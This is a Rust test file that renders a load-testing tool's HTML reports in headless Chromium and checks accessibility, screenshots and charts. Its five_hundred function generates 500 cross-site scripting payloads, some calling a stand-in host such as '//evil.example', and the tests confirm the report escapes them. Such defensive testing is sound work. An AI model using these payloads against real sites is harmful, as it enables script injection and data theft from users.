//! Pages in a real browser: what `look.mjs` sees of them in Chromium, with axe-core at its side.

use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::LazyLock;

use loadgate::report::{Facts, Format, markdown, render};
use serde::Deserialize;
use serde_json::{Value, json};

use super::cases::{Owned, case};
use super::{hostile, pages};

/// What was seen of a page.
#[derive(Debug, Default, Deserialize)]
#[serde(default)]
pub(super) struct Seen {
    /// What a page should not do, each with the look in which it did.
    faults: Vec<String>,
    /// What axe-core had to say.
    axe: Vec<String>,
    /// All words, by look.
    texts: BTreeMap<String, String>,
    /// The looks there are pictures of.
    pictures: Vec<String>,
    /// How far each picture is from the kept ones, by look and page, as a share of its points.
    distances: BTreeMap<String, BTreeMap<String, f64>>,
    /// Tables as a reader sees them, by the heading's id: rows of cells.
    pub(super) tables: BTreeMap<String, Value>,
    /// Endpoints that were counted on a page of hostile names.
    names: usize,
}

impl Seen {
    /// All words of the page.
    pub(super) fn text(&self) -> &str {
        self.texts.values().next().map_or("", String::as_str)
    }
}

/// A page, its judgement for machines, and what was seen of it.
pub(super) struct Page {
    pub(super) name: &'static str,
    pub(super) verdict: Value,
    pub(super) seen: Seen,
}

/// The page of five hundred hostile names.
const NAMES: &str = "names";
const ROOT: &str = env!("CARGO_MANIFEST_DIR");
/// What pages looked like when somebody found them good.
const PICTURES: &str = "tests/data/pictures";
/// So many points of a picture may differ clearly: another version of a browser draws letters a
/// little differently, though the fonts are the same everywhere. Two different pages are farther
/// apart.
const TOLERANCE: f64 = 0.025;

/// Where pages and their pictures lie, to be looked at after a test failed.
fn folder() -> PathBuf {
    Path::new(env!("CARGO_TARGET_TMPDIR")).join("pages")
}

/// The reports of runs among the pages.
pub(super) fn reports() -> impl Iterator<Item = &'static Page> {
    all().iter().filter(|page| !page.verdict.is_null())
}

/// Every page, seen once.
fn all() -> &'static [Page] {
    &seen().0
}

/// Every page, and the one of hostile names alone: one browser sees them all.
fn seen() -> &'static (Vec<Page>, Seen) {
    static ALL: LazyLock<(Vec<Page>, Seen)> = LazyLock::new(|| {
        let named = |name: &'static str, case: &str| Owned { name, ..self::case(case) };
        let made = [
            named("pass", "passing"),
            Owned { name: "fail", ..pages::trouble() },
            named("inconclusive", "fell-behind"),
            pages::hundred(),
            named("hostile", "hostile-names"),
            pages::compared(),
            pages::kept(),
        ];
        let htmls = made.iter().map(|made| (made.name, render(Format::Html, &made.case())));
        let history = ("history", pages::history());
        let names = (NAMES, render(Format::Html, &pages::hostile(&five_hundred()).case()));
        let htmls: Vec<_> = std::iter::once(names).chain(htmls).chain([history]).collect();
        let mut seen = look_at("all", &htmls);
        let mut seen = |name: &str| seen.remove(name).unwrap_or_default();
        let mut all: Vec<Page> = made.iter().map(|made| page(made, seen(made.name))).collect();
        all.push(Page { name: "history", verdict: Value::Null, seen: seen("history") });
        (all, seen(NAMES))
    });
    &ALL
}

fn page(made: &Owned, seen: Seen) -> Page {
    let verdict = render(Format::Json, &made.case());
    let verdict = serde_json::from_str(&verdict).expect("verdict.json is JSON");
    Page { name: made.name, verdict, seen }
}

/// Opens pages in a browser.
fn look_at(set: &str, pages: &[(&str, String)]) -> BTreeMap<String, Seen> {
    let dir = folder().join(set);
    fs::create_dir_all(&dir).expect("a folder of ours");
    let told = |name: &str| json!({ "name": name, "deep": name == NAMES });
    let list: Vec<_> = pages.iter().map(|(name, _)| told(name)).collect();
    let write = |name: &str, text: &str| fs::write(dir.join(name), text).expect("written");
    write("pages.json", &json!(list).to_string());
    for (name, html) in pages {
        write(&format!("{name}.html"), html);
    }
    let tools = Path::new(ROOT).join("target/tools/node");
    let output = Command::new(tools.join("node_modules/.bin/node"))
        .arg(Path::new(ROOT).join("tests/it/report/look.mjs"))
        .args([&tools, &dir, &Path::new(ROOT).join(PICTURES)])
        .output();
    assert!(output.is_ok(), "node must be installed for this test (ci/tools): {output:?}");
    let output = output.expect("checked just before");
    let said = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "chromium, playwright-core, axe-core (ci/tools): {said}");
    serde_json::from_slice(&output.stdout).expect("what was seen is JSON")
}

/// Nothing was found, on any page; what was is listed.
fn expect_none(faults: impl Iterator<Item = String>) {
    let faults: Vec<_> = faults.collect();
    let more = if faults.len() > 40 { "\n…" } else { "" };
    let told = faults.iter().take(40).map(String::as_str).collect::<Vec<_>>().join("\n");
    assert!(faults.is_empty(), "{} faults\n{told}{more}", faults.len());
}

fn of_all(pick: fn(&Seen) -> &Vec<String>) -> impl Iterator<Item = String> {
    let told = move |page: &'static Page| {
        pick(&page.seen).iter().map(move |fault| format!("{}: {fault}", page.name))
    };
    all().iter().flat_map(told)
}

#[test]
fn a_page_asks_for_nothing_breaks_nothing_and_fits_every_screen() {
    expect_none(of_all(|seen| &seen.faults));
}

#[test]
fn axe_has_nothing_to_say() {
    expect_none(of_all(|seen| &seen.axe));
}

/// `UPDATE_PICTURES=1` keeps what is seen now, to be looked at before it is committed.
#[test]
fn pages_look_as_they_did_when_somebody_found_them_good() {
    let update = std::env::var_os("UPDATE_PICTURES").is_some();
    for Page { name, seen, .. } in all() {
        assert_eq!(seen.pictures.len(), 2, "{name}: a light one and a dark one");
        for look in &seen.pictures {
            let file = format!("{name}-{look}.png");
            if update {
                let from = folder().join("all/small").join(&file);
                fs::create_dir_all(Path::new(ROOT).join(PICTURES)).expect("a folder of ours");
                fs::copy(from, Path::new(ROOT).join(PICTURES).join(&file)).expect("a picture");
                continue;
            }
            let far = &seen.distances[look];
            let own = far.get(*name).copied().unwrap_or(1.0);
            let place = folder().join("all").join(&file);
            assert!(own <= TOLERANCE, "{own} of the points differ: look at {}", place.display());
            let others = far.iter().filter(|(other, _)| other.as_str() != *name);
            let near = others.map(|(_, far)| *far).fold(1.0, f64::min);
            assert!(near > own, "{file}: as near to another page, so it says nothing");
        }
    }
}

#[test]
fn every_word_is_there_without_scripts_and_under_jenkins() {
    for Page { name, seen, .. } in all() {
        let mut texts = seen.texts.iter();
        let (first, text) = texts.next().expect("a page has looks");
        assert!(text.len() > 200, "{name}: {text}");
        assert_eq!(seen.texts.len(), 9, "{name}: eight looks and Jenkins");
        for (look, other) in texts {
            assert_eq!(other, text, "{name}: {look} is not {first}");
        }
    }
}

#[test]
fn each_of_a_hundred_endpoints_compared_has_its_shift() {
    let made = pages::hundred_compared();
    let html = render(Format::Html, &made.case());
    let verdict: Value =
        serde_json::from_str(&render(Format::Json, &made.case())).expect("verdict.json is JSON");
    let scopes = verdict.pointer("/facts/shifts/scopes").and_then(Value::as_array);
    let scopes = scopes.expect("what was compared has shifts");
    assert_eq!(scopes.len(), 100, "each endpoint that a check is about");
    assert!(
        scopes.iter().all(|one| one["percentiles"].as_array().is_some_and(|all| all.len() > 2))
    );
    assert_eq!(html.matches("data-label=\"shift\"").count(), 100);
    assert!(html.contains("92 more shifts"), "eight in sight, the others folded");
    let changes = html.matches("data-label=\"change\"").count();
    assert!(changes >= 200 && html.len() < 1_000_000, "{changes} changes, {} bytes", html.len());
}

#[test]
fn a_page_of_a_hundred_endpoints_is_small() {
    let html = render(Format::Html, &pages::hundred().case());
    assert!(html.len() < 1_000_000, "{} bytes", html.len());
}

/// Draws the chart of a summary by Mermaid, as the hosts do that know it.
const DRAW: &str = r"
const [tools, text] = process.argv.slice(1);
const { createRequire } = await import('node:module');
const load = createRequire(tools + '/package.json');
const { chromium } = load('playwright-core');
const executablePath = '/usr/bin/chromium';
const browser = await chromium.launch({ executablePath, args: ['--no-sandbox'] });
const page = await browser.newPage();
await page.addScriptTag({ path: tools + '/node_modules/mermaid/dist/mermaid.min.js' });
const draw = async (text) => (await globalThis.mermaid.render('chart', text)).svg;
const svg = await page.evaluate(draw, text);
await browser.close();
process.stdout.write(svg);
";

#[test]
fn the_chart_of_a_summary_is_one_that_mermaid_draws() {
    let made = pages::trouble();
    let facts = Facts::of(&made.case());
    let page = markdown::within(&facts, markdown::MOST_BYTES, true);
    let chart = page.split("```mermaid\n").nth(1).and_then(|rest| rest.split("```").next());
    let tools = Path::new(ROOT).join("target/tools/node");
    let output = Command::new(tools.join("node_modules/.bin/node"))
        .args(["--input-type=module", "-e", DRAW])
        .args([tools.as_os_str(), chart.expect("the page has a chart").as_ref()])
        .output();
    let output = output.expect("node must be installed for this test (ci/tools)");
    let (svg, said) =
        (String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
    assert!(output.status.success(), "mermaid, chromium (ci/tools): {said}");
    assert!(svg.contains("p95 over time in ms, and its limit"), "{svg}");
    assert!(svg.matches("<path").count() >= 2, "two lines: {svg}");
    assert!(!markdown::within(&facts, markdown::MOST_BYTES, false).contains("mermaid"));
}

/// Texts that want to become markup, a script, a style or a command, each in a way of its own.
fn five_hundred() -> Vec<String> {
    let run = [
        "hit=1",
        "globalThis.hit=1",
        "alert(1)",
        "window['hit']=1",
        "top.hit=1",
        "eval('hit=1')",
        "this.hit=1",
        "fetch('//evil.example')",
        "location='//evil.example'",
        "open('//evil.example')",
    ];
    let ways: [fn(&str) -> String; 42] = [
        |run| format!("<script>{run}</script>"),
        |run| format!("</title><script>{run}</script>"),
        |run| format!("</style><script>{run}</script>"),
        |run| format!("</script><script>{run}</script>"),
        |run| format!("--><script>{run}</script><!--"),
        |run| format!("]]><script>{run}</script>"),
        |run| format!("\"><script>{run}</script>"),
        |run| format!("'><script>{run}</script>"),
        |run| format!("<img src=x onerror=\"{run}\">"),
        |run| format!("<IMG SRC=x OnErRoR={run}>"),
        |run| format!("\" onmouseover=\"{run}\" x=\""),
        |run| format!("' onfocus='{run}' autofocus tabindex=1 '"),
        |run| format!("\" autofocus onfocus={run} \""),
        |run| format!("<svg onload={run}>"),
        |run| format!("</svg><svg onload={run}>"),
        |run| format!("<svg><script>{run}</script></svg>"),
        |run| format!("</desc></title><script>{run}</script>"),
        |run| format!("<svg><animate onbegin={run} attributeName=x dur=1s>"),
        |run| format!("<svg><a xlink:href=\"javascript:{run}\"><text x=9 y=9>x</text></a></svg>"),
        |run| format!("<iframe src=\"javascript:{run}\"></iframe>"),
        |run| format!("<iframe srcdoc=\"<script>parent.{run}</script>\"></iframe>"),
        |run| format!("<object data=\"javascript:{run}\">"),
        |run| format!("<embed src=\"javascript:{run}\">"),
        |run| format!("<a href=\"javascript:{run}\">x</a>"),
        |run| format!("<body onload={run}>"),
        |run| format!("<details open ontoggle={run}>"),
        |run| format!("<video><source onerror={run}></video>"),
        |run| format!("<input autofocus onfocus={run}>"),
        |run| format!("<form action=\"javascript:{run}\"><button>x</button></form>"),
        |run| format!("<math><svg><mtext><style><a title=\"</style><img src=x onerror='{run}'>\">"),
        |run| format!("<noscript><p title=\"</noscript><img src=x onerror={run}>\">"),
        |run| format!("<template><script>{run}</script></template>"),
        |run| format!("<marquee onstart={run}>"),
        |run| format!("<meta http-equiv=refresh content=\"0;url=javascript:{run}\">"),
        |run| format!("<base href=\"//evil.example/\"><script src=x>{run}</script>"),
        |run| format!("<link rel=stylesheet href=\"//evil.example/?{run}\">"),
        |run| format!("<style>*{{background:url(//evil.example/?{run})}}</style>"),
        |run| format!("&lt;script&gt;{run}&lt;/script&gt;"),
        |run| format!("&#60;script&#62;{run}&#60;/script&#62;"),
        |run| format!("\\u003cscript\\u003e{run}\\u003c/script\\u003e"),
        |run| format!("${{{run}}} {{{{constructor.constructor('{run}')()}}}} <%= {run} %>"),
        |run| format!("+ADw-script+AD4-{run}+ADw-/script+AD4-"),
    ];
    let mut all: Vec<String> =
        ways.iter().flat_map(|way| run.iter().map(move |run| way(run))).collect();
    let usual = hostile();
    let twice = usual.iter().flat_map(|one| usual.iter().map(move |other| format!("{one}{other}")));
    all.extend(twice);
    all.truncate(500);
    all
}

#[test]
fn five_hundred_hostile_names_run_nothing() {
    assert_eq!(five_hundred().len(), 500);
    let names = &seen().1;
    expect_none(names.faults.iter().cloned());
    assert_eq!(names.names, 500, "each of them is an endpoint");
}
